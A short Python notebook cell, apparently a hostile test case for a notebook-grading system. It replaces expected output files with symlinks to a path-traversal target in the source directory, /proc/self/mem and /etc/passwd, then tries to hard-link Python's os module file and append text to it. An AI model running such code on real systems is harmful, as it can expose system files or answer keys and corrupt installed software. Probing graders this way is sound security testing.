# %% own
import os
made = []
for name in ("03_small.ipynb", "03_small.html", "timestamp.txt", "left_behind"):
    for target in ("../../../source/03_small/03_small.ipynb", "/proc/self/mem", "/etc/passwd"):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
            made.append(name)
            break
        except OSError:
            pass
try:
    os.link(os.__file__, "hard")
    with open("hard", "a") as file:
        file.write("mine")
except OSError:
    pass
print(made)
